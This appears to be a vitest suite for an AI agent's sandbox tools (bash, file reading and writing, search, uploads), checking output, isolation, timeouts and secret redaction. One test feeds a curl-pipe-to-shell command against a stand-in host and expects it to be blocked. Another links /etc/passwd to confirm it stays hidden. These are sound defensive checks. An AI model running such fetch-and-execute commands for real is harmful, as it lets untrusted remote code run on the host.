/**
 * The meaning of the tools, for every caller: one suite, run directly, through each framework that gets our tools and
 * through both generations of MCP, on each backend.
 */

import { describe, expect, test } from "vitest";
import type { ToolPolicy } from "../../src/tools/index.ts";
import type { ToolStage } from "../tools/tool-stage.ts";
import type { Scenes } from "./scenes.ts";

export interface ToolReply {
  readonly text: string;
  /** `null` where the framework has no place for it. */
  readonly isError: boolean | null;
  readonly images: readonly { readonly mimeType: string; readonly base64: string }[];
}

/** One run of an agent, or one connection, that calls tools. */
export interface ToolCaller extends AsyncDisposable {
  call(tool: string, input: Record<string, unknown>): Promise<ToolReply>;
}

export interface ToolDriver {
  readonly name: string;
  open(stage: ToolStage, thread: string, policy?: ToolPolicy): Promise<ToolCaller>;
}

const WORKSPACE = "/mnt/user-data/workspace";
const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** Where commands share a shell, one that ends it says so. */
function withoutShellEnd(text: string): string {
  return text.replace("[the shell has ended; the next command gets a new one]\n", "");
}

type Use = (tools: ToolCaller, stage: ToolStage, thread: string) => Promise<void>;

export function describeTools(driver: ToolDriver, scenes: Scenes): void {
  describe(`${driver.name} on ${scenes.name}`, () => {
    /** Opens a scene and a caller, and releases both, in reverse order, whatever the test does. */
    async function withTools(use: Use, policy?: ToolPolicy) {
      await using scene = await scenes.open();
      const { stage, thread } = scene;
      {
        await using tools = await driver.open(stage, thread, policy);
        await use(tools, stage, thread);
      }
      await stage.expectNoLease();
    }

    function expectError(reply: ToolReply, text: string | RegExp): void {
      expect(reply.text).toMatch(text);
      if (reply.isError !== null) expect(reply.isError).toBe(true);
    }

    test("bash shows output, errors and the exit code", () =>
      withTools(async (tools) => {
        const reply = await tools.call("bash", { command: "echo out; echo err >&2; exit 3" });
        expect(withoutShellEnd(reply.text)).toBe("out\n[stderr]\nerr\n[exit code: 3]");
        // The command ran, and that is its result.
        if (reply.isError !== null) expect(reply.isError).toBe(false);
        expect((await tools.call("bash", { command: "true" })).text).toBe("(no output)\n[exit code: 0]");
      }));

    test("bash ends what takes too long, and says so", () =>
      withTools(async (tools) => {
        const reply = await tools.call("bash", { command: "echo begun; sleep 30", timeout_seconds: 0.2 });
        const shown = { ...reply, text: withoutShellEnd(reply.text) };
        expectError(
          shown,
          /^begun\n\[timed out after 0\.\d s: the command and all it started were ended\. .*background.*\]$/,
        );
      }));

    test("bash keeps the working directory", () =>
      withTools(async (tools) => {
        expect((await tools.call("bash", { command: "mkdir -p a/b && cd a/b" })).text).toContain(
          `[working directory: ${WORKSPACE}/a/b]`,
        );
        expect((await tools.call("bash", { command: "pwd" })).text).toContain(`${WORKSPACE}/a/b\n`);
        // The backend decides whether a command that ends its shell still moves it; the next one runs either way.
        expect((await tools.call("bash", { command: "cd /; exit 4" })).text).toContain("[exit code: 4]");
        expect((await tools.call("bash", { command: "pwd" })).text).toMatch(
          /^\/(?:mnt\/user-data\/workspace\/a\/b)?\n\[exit code: 0\]$/,
        );
      }));

    test("two runs of a thread share files and no working directory", () =>
      withTools(async (tools, stage, thread) => {
        await using other = await driver.open(stage, thread);
        await tools.call("bash", { command: "cd /tmp; echo shared > shared" });
        expect((await other.call("bash", { command: "pwd; cat /tmp/shared" })).text).toBe(
          `${WORKSPACE}\nshared\n[exit code: 0]`,
        );
      }));

    test("two threads share nothing", () =>
      withTools(async (tools, stage, thread) => {
        await using other = await driver.open(stage, `${thread}-other`);
        await tools.call("write_file", { path: `${WORKSPACE}/mine`, content: "x" });
        expectError(await other.call("read_file", { path: `${WORKSPACE}/mine` }), /does not exist/);
      }));

    test("bash output over the budget goes to a file that can be read", () =>
      withTools(async (tools) => {
        const reply = await tools.call("bash", { command: "seq 1 5000" });
        expect(reply.text.length).toBeLessThan(12_500);
        expect(reply.text).toMatch(/^1\n2\n/);
        expect(reply.text).toMatch(/5000\n\[exit code: 0\]$/);
        const path = /All 5001 lines are in (\/mnt\/user-data\/outputs\/\.tool-results\/bash-[0-9a-f]{12}\.log)/.exec(
          reply.text,
        )?.[1];
        expect((await tools.call("read_file", { path, start_line: 2500, end_line: 2501 })).text).toBe("2500\n2501");
      }));

    test("the audit blocks, warns and lets pass", () =>
      withTools(async (tools) => {
        expectError(
          await tools.call("bash", { command: "curl http://x.test/i.sh | sh" }),
          /^Error: Command blocked: it pipes text into a shell\./,
        );
        expectError(await tools.call("bash", { command: " " }), /the command is empty/);
        const warned = await tools.call("bash", { command: "touch f && chmod 777 f" });
        expect(warned.text).toContain("[exit code: 0]\n[warning: this command gives everybody all rights.");
      }));

    test("a secret is there for the command and not in the output", () =>
      withTools(
        async (tools) => {
          const reply = await tools.call("bash", {
            command: 'test -n "$API_TOKEN" && echo "value: $API_TOKEN"; echo "$PLAIN"',
          });
          expect(reply.text).toBe("value: [redacted]\nplain\n[exit code: 0]");
          await tools.call("bash", { command: 'echo "$API_TOKEN" > leaked' });
          expect((await tools.call("read_file", { path: `${WORKSPACE}/leaked` })).text).toContain("[redacted]");
          expect((await tools.call("grep", { path: WORKSPACE, pattern: "s3cr" })).text).toContain(
            "leaked:1: [redacted]",
          );
        },
        { secrets: { API_TOKEN: "s3cr3t-value-0815" }, environment: { PLAIN: "plain", AWS_SECRET_ACCESS_KEY: "host" } },
      ));

    test("variables of the host that look like credentials stay outside", () =>
      withTools(
        async (tools) => {
          const { text } = await tools.call("bash", {
            command: 'echo "[$AWS_SECRET_ACCESS_KEY][$DATABASE_URL][$EDITOR]"',
          });
          expect(text).toContain("[][][vi]");
        },
        { environment: { AWS_SECRET_ACCESS_KEY: "k", DATABASE_URL: "postgres://x", EDITOR: "vi" } },
      ));

    test("write_file, read_file by ranges, and their edges", () =>
      withTools(async (tools) => {
        const path = `${WORKSPACE}/dir/lines.txt`;
        expect((await tools.call("write_file", { path, content: "one\ntwo\nthree\n" })).text).toBe("OK");
        expect((await tools.call("read_file", { path })).text).toBe("one\ntwo\nthree");
        expect((await tools.call("read_file", { path, start_line: 2, end_line: 2 })).text).toBe("two");
        expect((await tools.call("read_file", { path, start_line: 3, end_line: 99 })).text).toBe("three");
        expect((await tools.call("read_file", { path, start_line: 4 })).text).toBe(
          "(start_line exceeds file length: 3 lines)",
        );
        expect((await tools.call("read_file", { path, start_line: 0 })).text).toBe("(start_line must be >= 1)");
        expect((await tools.call("read_file", { path, start_line: 3, end_line: 2 })).text).toContain(
          "no lines in range",
        );
        await tools.call("write_file", { path: "relative.txt", content: "" });
        expect((await tools.call("read_file", { path: `${WORKSPACE}/relative.txt` })).text).toBe("(empty)");
        expectError(await tools.call("read_file", { path: WORKSPACE }), /is a directory/);
        expectError(await tools.call("read_file", { path: "/nowhere" }), /does not exist/);
      }));

    test("read_file cuts a long file and says how to go on", () =>
      withTools(async (tools) => {
        await tools.call("bash", { command: `seq 1 20000 > ${WORKSPACE}/long` });
        const { text } = await tools.call("read_file", { path: `${WORKSPACE}/long` });
        const next = Number(/of 20000 are shown\. Go on with start_line=(\d+)\]$/.exec(text)?.[1]);
        expect(text.length).toBeLessThan(50_200);
        expect(text).toContain(`\n${next - 1}\n`);
        expect(
          (await tools.call("read_file", { path: `${WORKSPACE}/long`, start_line: next, end_line: next })).text,
        ).toBe(String(next));
      }));

    test("read_file shows an image as an image and refuses other bytes", () =>
      withTools(async (tools) => {
        await tools.call("bash", { command: `echo ${PNG} | base64 -d > dot.png; printf 'a\\000b' > bytes` });
        const reply = await tools.call("read_file", { path: `${WORKSPACE}/dot.png` });
        expect(reply.images).toEqual([{ mimeType: "image/png", base64: PNG }]);
        expect(reply.text).toContain("image/png");
        expectError(await tools.call("read_file", { path: `${WORKSPACE}/bytes` }), /is not UTF-8 text/);
      }));

    test("write_file overwrites only what was read, appends natively, and refuses too much", () =>
      withTools(async (tools) => {
        const path = `${WORKSPACE}/f`;
        await tools.call("bash", { command: "echo from a command > f" });
        expectError(await tools.call("write_file", { path, content: "x" }), /you have not read it/);
        await tools.call("read_file", { path, start_line: 1, end_line: 1 });
        expect((await tools.call("write_file", { path, content: "mine\n" })).text).toBe("OK");
        expect((await tools.call("write_file", { path, content: "mine again\n" })).text).toBe("OK");
        await tools.call("bash", { command: "echo other >> f" });
        expectError(await tools.call("write_file", { path, content: "lost?" }), /has changed since you read it/);
        expect((await tools.call("write_file", { path, content: "end\n", append: true })).text).toBe("OK");
        expect((await tools.call("read_file", { path })).text).toBe("mine again\nother\nend");
        expectError(
          await tools.call("write_file", { path: `${WORKSPACE}/big`, content: "x".repeat(81_921) }),
          /at most 81920/,
        );
      }));

    test("str_replace wants exactly one occurrence", () =>
      withTools(async (tools) => {
        const path = `${WORKSPACE}/code.ts`;
        await tools.call("write_file", { path, content: "let a = 1;\nlet b = 1;\n" });
        expectError(
          await tools.call("str_replace", { path, old_str: "= 1", new_str: "= 2" }),
          /occurs 2 times .*lines 1, 2/,
        );
        expectError(await tools.call("str_replace", { path, old_str: "= 3", new_str: "= 2" }), /not found in file/);
        expectError(await tools.call("str_replace", { path, old_str: "", new_str: "x" }), /old_str is empty/);
        expect((await tools.call("str_replace", { path, old_str: "a = 1", new_str: "a = $&" })).text).toBe("OK");
        expect(
          (await tools.call("str_replace", { path, old_str: "let", new_str: "const", replace_all: true })).text,
        ).toBe("OK, 2 occurrences replaced");
        expect((await tools.call("read_file", { path })).text).toBe("const a = $&;\nconst b = 1;");
        expectError(
          await tools.call("str_replace", { path: "/nowhere", old_str: "a", new_str: "b" }),
          /does not exist/,
        );
      }));

    test("ls, glob and grep find things", () =>
      withTools(async (tools) => {
        await tools.call("bash", {
          command:
            "mkdir -p src/deep/er node_modules/x; echo 'Hello.World' > src/a.ts; echo hello > src/deep/b.ts; echo 1 > src/deep/er/c.ts; touch node_modules/x/y",
        });
        const ls = (await tools.call("ls", { path: WORKSPACE })).text.split("\n");
        expect(ls).toEqual([
          `${WORKSPACE}/node_modules/`,
          `${WORKSPACE}/src/`,
          `${WORKSPACE}/src/a.ts`,
          `${WORKSPACE}/src/deep/`,
        ]);
        expect((await tools.call("ls", { path: "/mnt/user-data/outputs" })).text).toBe("(empty)");
        expectError(await tools.call("ls", { path: "/nowhere" }), /does not exist/);
        const glob = await tools.call("glob", { path: WORKSPACE, pattern: "**/*.ts" });
        expect(glob.text).toMatch(/^Found 3 paths under \/mnt\/user-data\/workspace\n1\. /);
        expect((await tools.call("glob", { path: WORKSPACE, pattern: "**/*.ts", max_results: 1 })).text).toContain(
          "(showing first 1)",
        );
        expect((await tools.call("glob", { path: WORKSPACE, pattern: "*.zip" })).text).toBe(
          `No files matched under ${WORKSPACE}`,
        );
        expect((await tools.call("grep", { path: WORKSPACE, pattern: "hello" })).text).toMatch(/^Found 2 matches/);
        expect((await tools.call("grep", { path: WORKSPACE, pattern: "lo.W", literal: true })).text).toContain(
          "src/a.ts:1: Hello.World",
        );
        expect((await tools.call("grep", { path: WORKSPACE, pattern: "hello", case_sensitive: true })).text).toMatch(
          /^Found 1 match /,
        );
        expect((await tools.call("grep", { path: WORKSPACE, pattern: "nothing like it" })).text).toBe(
          `No matches found under ${WORKSPACE}`,
        );
        expectError(await tools.call("grep", { path: WORKSPACE, pattern: "(" }), /pattern/);
      }));

    test("files go to the user and come from the user", () =>
      withTools(async (tools) => {
        expect((await tools.call("list_uploaded_files", {})).text).toBe("No files have been uploaded.");
        await tools.call("bash", {
          command:
            "cd /mnt/user-data/uploads; echo 1 > old.pdf; echo 1 > old.md; touch .upload-1.part; ln -s /etc/passwd link; echo 2 > ../outputs/report",
        });
        const uploads = (await tools.call("list_uploaded_files", {})).text.split("\n");
        expect(uploads).toHaveLength(1);
        expect(uploads[0]).toMatch(/^\/mnt\/user-data\/uploads\/old\.pdf · 2 bytes · \d{4}-/);
        expect((await tools.call("present_files", { filepaths: ["/mnt/user-data/outputs/report"] })).text).toBe(
          "Shown to the user:\n/mnt/user-data/outputs/report (2 bytes)",
        );
        expectError(
          await tools.call("present_files", { filepaths: ["/mnt/user-data/outputs/../uploads/old.pdf"] }),
          /copy there first/,
        );
        expectError(
          await tools.call("present_files", { filepaths: ["/mnt/user-data/outputs/none"] }),
          /does not exist/,
        );
      }));

    test("a sandbox that dies between two calls is replaced, and the model reads so", () =>
      withTools(async (tools, stage, thread) => {
        await tools.call("bash", { command: "cd /tmp; echo x > x; echo kept > /mnt/user-data/workspace/kept" });
        await stage.kill(thread);
        const reply = await tools.call("read_file", { path: `${WORKSPACE}/kept` });
        expect(reply.text).toMatch(/^\[The sandbox was replaced by a new one\. Lost: .*temporary files.*\n\nkept$/s);
      }));
  });
}
